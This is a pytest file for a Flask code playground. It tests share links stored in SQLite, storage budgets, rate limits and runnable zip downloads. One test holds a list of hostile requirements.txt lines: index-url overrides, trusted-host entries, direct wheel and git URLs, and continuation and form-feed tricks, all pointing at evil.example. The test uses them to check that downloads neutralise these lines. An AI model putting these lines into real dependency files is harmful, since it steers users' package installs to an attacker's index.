"""Share and take home: short links kept in SQLite (surviving a restart), and zips that run."""

import io
import json
import math
import os
import shlex
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
import zipfile
from contextlib import closing
from pathlib import Path

import pytest

from playground import create_app
from playground.services import services_of
from playground.share_store import key_for
from tests.servers import start_server, stop_server, wait_until
from tests.test_live import Api

# Ends without app.run(): the download adds a __main__ block.
HELLO = (
    'from flask import Flask\napp = Flask(__name__)\n@app.route("/")\ndef home():\n'
    '    return "hi"\n'
)


@pytest.fixture
def shares_app(tmp_path):
    app = create_app(
        {"TESTING": True, "INSTANCE_PATH": str(tmp_path / "instance"), "MAX_SHARE_BYTES": 1000}
    )
    yield app
    services_of(app).sandboxes.shutdown()


@pytest.fixture
def shares_client(shares_app):
    return shares_app.test_client()


def test_same_files_give_the_same_link(shares_client):
    first = shares_client.post("/api/shares", json={"files": {"app.py": HELLO, "t.txt": "x"}})
    again = shares_client.post("/api/shares", json={"files": {"t.txt": "x", "app.py": HELLO}})
    other = shares_client.post("/api/shares", json={"files": {"app.py": HELLO + "\n"}})
    assert first.status_code == again.status_code == 201
    assert first.json == again.json
    assert len(first.json["key"]) == 10 and first.json["url"].endswith(f"/s/{first.json['key']}")
    assert other.json["key"] != first.json["key"]


def test_a_share_opens_in_the_editor(shares_client):
    key = shares_client.post(
        "/api/shares", json={"files": {"app.py": HELLO}, "slug": "hello"}
    ).json["key"]
    share = shares_client.get(f"/api/shares/{key}").json
    assert share["files"] == {"app.py": HELLO} and share["slug"] == "hello"
    page = shares_client.get(f"/s/{key}")
    assert page.status_code == 302 and page.headers["Location"] == f"/?share={key}"


def test_the_app_field_travels_with_a_share(shares_client):
    files = {"app.py": HELLO}
    plain = shares_client.post("/api/shares", json={"files": files}).json["key"]
    named = shares_client.post("/api/shares", json={"files": files, "app": "app:app"}).json["key"]
    assert plain == key_for(files) != named  # links made before the App field still open
    assert shares_client.get(f"/api/shares/{named}").json["app"] == "app:app"
    assert shares_client.get(f"/api/shares/{plain}").json["app"] is None


@pytest.mark.parametrize(
    "payload, status, code",
    [
        ({"files": {"app.py": "x" * 1001}}, 413, "share_too_large"),
        ({"files": {"app.py": HELLO, "../up.py": ""}}, 400, "bad_path"),
        ({"files": "app.py"}, 400, "bad_files"),
        ({"files": {"app.py": HELLO}, "app": "app:\n"}, 400, "bad_app"),
        ({"files": {"app.py": HELLO}, "app": "app:" + "x" * 1_000_000}, 400, "bad_app"),
    ],
)
def test_shares_are_checked_and_capped(shares_client, payload, status, code):
    response = shares_client.post("/api/shares", json=payload)
    assert response.status_code == status and response.json["error"]["code"] == code


def test_unknown_shares_and_other_sites(shares_client):
    assert shares_client.get("/api/shares/nosuchkey0").json["error"]["code"] == "no_such_share"
    assert shares_client.get("/s/nosuchkey0").status_code == 404
    response = shares_client.post(
        "/api/shares", json={"files": {"app.py": HELLO}}, headers={"Origin": "http://evil.example"}
    )
    assert response.status_code == 403


@pytest.fixture
def make_shares_app(tmp_path):
    """Hosts with settings of a test's own and an instance folder each."""
    made = []

    def make(**config):
        app = create_app(
            {
                "TESTING": True,
                "INSTANCE_PATH": str(tmp_path / f"i{len(made)}"),
                "MAX_SHARE_BYTES": 1000,
                **config,
            }
        )
        made.append(app)
        return app

    yield make
    for app in made:
        services_of(app).sandboxes.shutdown()


def share_of(n: int) -> dict:
    """A share of about 1000 bytes, a different one for each `n`."""
    return {"files": {"app.py": HELLO + f"# {n}\n" + "#" * 880}}


def stored_bytes(app) -> tuple:
    """(the store's running total, the sum of what it holds)."""
    with closing(sqlite3.connect(Path(app.instance_path) / "shares.sqlite3")) as db:
        return (
            db.execute("SELECT bytes FROM used").fetchone()[0],
            db.execute(
                "SELECT coalesce(sum(length(CAST(files AS BLOB))), 0) FROM shares"
            ).fetchone()[0],
        )


def test_a_script_dropping_its_cookie_cannot_fill_the_disk(make_shares_app):
    """The review's script stored 1,380 shares in 15 s (+356 MB): each new cookie a new
    visitor. Past SHARES_MAX_BYTES, and with every share opened lately, a share is refused."""
    app = make_shares_app(SHARES_MAX_BYTES=8000, RATE_ALL_SHARE_BURST=1000)
    codes = [app.test_client().post("/api/shares", json=share_of(n)).status_code for n in range(40)]
    assert codes == [201] * 8 + [507] * 32
    refused = app.test_client().post("/api/shares", json=share_of(99)).json["error"]
    assert refused["code"] == "shares_full" and "Download" in refused["message"]
    used, held = stored_bytes(app)
    assert used == held <= 8000


def test_old_unused_shares_make_room_and_recently_opened_ones_stay(make_shares_app):
    keep = 0.5  # seconds, for the test: SHARE_KEEP_DAYS is days
    app = make_shares_app(SHARES_MAX_BYTES=2500, SHARE_KEEP_DAYS=keep / 86400)
    client = app.test_client()
    first, second = (client.post("/api/shares", json=share_of(n)).json["key"] for n in (1, 2))
    assert client.post("/api/shares", json=share_of(3)).status_code == 507  # both are recent
    time.sleep(keep + 0.1)
    assert client.get(f"/api/shares/{second}").status_code == 200  # opened: recent again
    assert client.post("/api/shares", json=share_of(2)).status_code == 201  # already there
    third = client.post("/api/shares", json=share_of(3))
    assert third.status_code == 201
    assert client.get(f"/api/shares/{first}").status_code == 404  # the least recently opened
    assert client.get(f"/api/shares/{second}").status_code == 200
    assert client.get(f"/api/shares/{third.json['key']}").status_code == 200
    used, held = stored_bytes(app)
    assert used == held <= 2500


def test_all_visitors_together_have_a_share_rate(make_shares_app):
    app = make_shares_app(RATE_ALL_SHARE_BURST=3, RATE_ALL_SHARES_PER_MINUTE=1)
    codes = [app.test_client().post("/api/shares", json=share_of(n)).status_code for n in range(3)]
    refused = app.test_client().post("/api/shares", json=share_of(3))
    assert codes == [201] * 3 and refused.status_code == 429
    error = refused.json["error"]
    assert error["code"] == "rate_limited" and "all visitors together" in error["message"]
    assert 50 <= error["retry_after"] <= 60.1  # a minute for one share, with the margin
    assert refused.headers["Retry-After"] == str(math.ceil(error["retry_after"]))


def test_a_database_from_before_the_budget_keeps_its_shares(make_shares_app, tmp_path):
    folder = tmp_path / "old"
    folder.mkdir()
    files = {"app.py": HELLO}
    with closing(sqlite3.connect(folder / "shares.sqlite3")) as db, db:
        db.execute(
            "CREATE TABLE shares (key TEXT PRIMARY KEY, files TEXT NOT NULL, slug TEXT, "
            "created REAL NOT NULL)"
        )
        db.execute(
            "INSERT INTO shares VALUES (?, ?, NULL, ?)",
            (key_for(files), json.dumps(files), time.time()),
        )
    app = make_shares_app(INSTANCE_PATH=str(folder))
    share = app.test_client().get(f"/api/shares/{key_for(files)}").json
    assert share["files"] == files and share["app"] is None
    assert stored_bytes(app) == (len(json.dumps(files)),) * 2


def test_a_share_survives_a_restart(tmp_path):
    env = {"PLAYGROUND_INSTANCE_PATH": str(tmp_path)}
    proc, url = start_server(env=env)
    try:
        key = Api(url).call("POST", "/api/shares", {"files": {"app.py": HELLO}})["key"]
    finally:
        stop_server(proc)
    proc, url = start_server(env=env)
    try:
        assert Api(url).call("GET", f"/api/shares/{key}")["files"] == {"app.py": HELLO}
    finally:
        stop_server(proc)
    assert (tmp_path / "shares.sqlite3").exists()


# -- take home -------------------------------------------------------------------------------


def unzip(response, into) -> dict:
    assert response.status_code == 200 and response.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.data)) as zf:
        zf.extractall(into)
        return {name: zf.read(name).decode() for name in zf.namelist()}


def test_a_snippet_downloads_with_readme_and_requirements(shares_client, tmp_path):
    response = shares_client.get("/api/snippets/sessions/download")
    assert "sessions.zip" in response.headers["Content-Disposition"]
    files = unzip(response, tmp_path)
    assert set(files) == {"sessions/app.py", "sessions/README.md", "sessions/requirements.txt"}
    assert files["sessions/requirements.txt"].lower().startswith("flask")
    readme = files["sessions/README.md"]
    assert "python app.py" in readme and "flask --app app run" in readme
    assert files["sessions/app.py"].count(".run(") == 1  # it runs itself already


def test_edited_files_download_and_run_with_flask_run(shares_client, tmp_path):
    response = shares_client.post(
        "/api/download",
        json={"files": {"app.py": HELLO, "templates/a.html": "<p>"}, "name": "my app"},
    )
    files = unzip(response, tmp_path)
    assert files["my-app/templates/a.html"] == "<p>"
    assert 'if __name__ == "__main__":\n    app.run(debug=True)' in files["my-app/app.py"]
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    flask = [sys.executable, "-m", "flask", "--app", "app", "run", "--port", str(port)]
    assert serves(flask, tmp_path / "my-app", port) == "hi"


def test_a_download_refuses_an_app_field_flask_could_not_read(shares_client):
    for app in ("two words", "app:" + "x" * 1_000_000):  # one regex match, at most 401 read
        response = shares_client.post("/api/download", json={"files": {"a.py": HELLO}, "app": app})
        assert response.status_code == 400 and response.json["error"]["code"] == "bad_app"


def test_the_readme_runs_the_app_the_app_field_names(shares_client, tmp_path):
    factory = (
        "from flask import Flask\n\ndef make(greeting):\n    app = Flask(__name__)\n"
        '    app.add_url_rule("/", "home", lambda: greeting)\n    return app\n'
    )
    response = shares_client.post(
        "/api/download",
        json={"files": {"shop.py": factory}, "name": "shop", "app": "shop:make('hi')"},
    )
    readme = unzip(response, tmp_path)["shop/README.md"]
    command = next(line for line in readme.splitlines() if line.startswith("flask --app"))
    argv = shlex.split(command, comments=True)
    assert argv == ["flask", "--app", "shop:make('hi')", "run", "--debug"]
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    flask = [sys.executable, "-m", *argv[:-1], "--port", str(port)]  # no reloader to outlive it
    assert serves(flask, tmp_path / "shop", port) == "hi"


HOSTILE_REQUIREMENTS = """requests>=2.0  # theirs, kept
numpy [extra] ==1.26 ; python_version < "3.13"
--index-url https://evil.example/simple
-i https://evil.example/simple
--extra-index-url=https://evil.example/simple
-f https://evil.example/wheels
--trusted-host evil.example
-r more.txt
-c constraints.txt
-e git+https://evil.example/x.git#egg=x
evil @ https://evil.example/evil.whl
https://evil.example/evil.whl
./local-package
sneaky==1.0 \\
    --extra-index-url https://evil.example/simple
# a comment that goes on \\
--index-url https://evil.example/after-a-comment
requests\f--index-url https://evil.example/form-feed
"""


def what_pip_reads(path: Path) -> list:
    """Each line pip's own parser takes from a requirements file: (requirement or None, the
    options it sets)."""
    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

    parser = RequirementsFileParser(None, get_line_parser(None))  # a session only for URLs
    return [
        (
            getattr(line, "requirement", None) if line.is_requirement else None,
            sorted(
                name
                for name, value in vars(line.opts).items()
                if value and name != "format_control"
            )
            + ["-e"] * line.is_editable,
        )
        for line in parser.parse(str(path), constraint=False)
    ]


def test_a_shared_snippets_requirements_cannot_point_pip_elsewhere(shares_client, tmp_path):
    """A visitor's requirements.txt replaced ours: a shared snippet could send whoever
    downloads it to another index. Theirs is kept, every line that is not a project on PyPI
    turned into a comment, and Flask added."""
    files = {"app.py": HELLO, "requirements.txt": HOSTILE_REQUIREMENTS}
    unzip(shares_client.post("/api/download", json={"files": files}), tmp_path)
    written = (tmp_path / "flask-app" / "requirements.txt").read_text()
    assert what_pip_reads(tmp_path / "flask-app" / "requirements.txt") == [
        ("flask>=3.1", []),
        ("requests>=2.0", []),
        ('numpy [extra] ==1.26 ; python_version < "3.13"', []),
        ("requests", []),
    ]  # pip splits lines at a form feed too
    for line in HOSTILE_REQUIREMENTS.splitlines():  # nothing lost
        assert line in written.splitlines() or f"# left out: {line}" in written.splitlines()
    assert "turned the lines marked 'left out' into comments" in written
    theirs = {"app.py": HELLO, "requirements.txt": "Flask==3.0.3\nrequests\n"}
    unzip(shares_client.post("/api/download", json={"files": theirs}), tmp_path / "own")
    assert (tmp_path / "own/flask-app/requirements.txt").read_text() == theirs["requirements.txt"]


@pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("unshare"),
    reason="needs a network namespace of its own (root and unshare)",
)
def test_the_download_runs_with_python_app_py(shares_client, tmp_path):
    """`python app.py` serves where app.py says (port 5000): in a network namespace of its own,
    so it cannot collide with anything on this machine."""
    unzip(shares_client.post("/api/download", json={"files": {"app.py": HELLO}}), tmp_path)
    fetch = (
        "import time, urllib.request\nfor _ in range(100):\n    try:\n        print(urllib."
        "request.urlopen('http://127.0.0.1:5000/').read().decode())\n        break\n"
        "    except OSError:\n        time.sleep(0.1)"
    )
    script = f'ip link set lo up; {sys.executable} app.py & {sys.executable} -c "{fetch}"'
    # A pid namespace too: when the shell ends, the app (and its reloader) end with it.
    result = subprocess.run(
        ["unshare", "--net", "--pid", "--fork", "--kill-child", "sh", "-c", script],
        cwd=tmp_path / "flask-app",
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert result.stdout.splitlines()[-1] == "hi", result.stderr


def serves(command, cwd, port) -> str:
    """Start `command` in `cwd`, return the body of GET / once it answers, then stop it."""
    proc = subprocess.Popen(command, cwd=cwd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def body() -> str | None:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as response:
                return response.read().decode()
        except OSError:
            return None

    try:
        return wait_until(body, 20, f"{command} to serve", interval=0.1)
    finally:
        proc.terminate()
        proc.wait(10)
